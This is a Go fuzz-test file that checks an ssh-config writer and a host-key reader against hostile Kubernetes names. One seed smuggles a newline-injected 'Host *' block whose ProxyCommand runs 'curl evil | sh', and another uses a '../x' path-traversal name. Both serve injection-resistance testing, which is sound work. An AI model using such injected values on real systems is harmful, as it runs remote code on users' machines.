package sshaccess

import (
	"bytes"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/easyai-dev/easyai/pkg/jobmodel"
	"github.com/easyai-dev/easyai/pkg/submit"
)

// FuzzHostKey: a host key and a Secret name come from the cluster, where
// anyone with edit rights writes them; reading them never panics, and a
// key read is one key.
func FuzzHostKey(f *testing.F) {
	_, pub, _ := submit.HostKey()
	f.Add([]byte(pub), "mnist-ssh")
	f.Add([]byte("ssh-rsa AAAA"), "../x")
	f.Add([]byte{0xff, '\n', 0}, "")
	f.Fuzz(func(t *testing.T, data []byte, name string) {
		_, _ = SecretOf("tf/x", map[string]string{jobmodel.SSHAnnotation: name})
		s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "x", OwnerReferences: []metav1.OwnerReference{{UID: "u"}}},
			Data: map[string][]byte{submit.SSHHostPublicKey: data}}
		key, err := hostKeyOf(s, "tf/x", "u")
		if err == nil && key == nil {
			t.Fatal("no error and no key")
		}
	})
}

// allowedDirectives are the only lines Config writes, besides its comment
// line and the blank line between blocks.
var allowedDirectives = map[string]bool{
	"Host": true, "HostName": true, "User": true, "ProxyCommand": true, "HostKeyAlias": true,
	"UserKnownHostsFile": true, "StrictHostKeyChecking": true, "PasswordAuthentication": true, "ServerAliveInterval": true,
}

// checkConfig fails t unless out is n blocks of the directives Config
// writes: one Host line a block, no Match, nothing else.
func checkConfig(t *testing.T, out string, n int) {
	t.Helper()
	hosts := 0
	for _, line := range strings.Split(out, "\n") {
		if line == "" || strings.HasPrefix(line, "# easyai: ") {
			continue
		}
		directive, _, _ := strings.Cut(strings.TrimLeft(line, " "), " ")
		if !allowedDirectives[directive] {
			t.Fatalf("a line %q in\n%s", line, out)
		}
		if directive == "Host" {
			hosts++
		}
	}
	if hosts != n {
		t.Fatalf("%d Host lines for %d targets in\n%s", hosts, n, out)
	}
}

// FuzzConfig: whatever the cluster names a replica, a job or a namespace,
// ssh-config writes either nothing (and fails) or only its own directives,
// one Host a replica.
func FuzzConfig(f *testing.F) {
	f.Add("worker-0", "mnist", "team-a", "root", "tf")
	f.Add("x\nHost *\n  ProxyCommand sh -c 'curl evil | sh'", "mnist", "team-a", "root", "volcano")
	f.Add("w", "a.b", "ns", "user name", "tf")
	f.Add("w\r", "a", "ns", "u", "tf")
	f.Fuzz(func(t *testing.T, task, job, namespace, user, kind string) {
		target := Target{Alias: Alias(task, job, namespace), Task: task, JobArg: kind + "/" + job, Namespace: namespace, User: user}
		var out bytes.Buffer
		err := Config(&out, Proxy{Executable: "/usr/bin/easyai"}, "/home/u/.ssh/easyai/known", job, []Target{target})
		if err != nil {
			if out.Len() > 0 {
				t.Fatalf("failed (%v) and wrote %q", err, out.String())
			}
			return
		}
		checkConfig(t, out.String(), 1)
	})
}
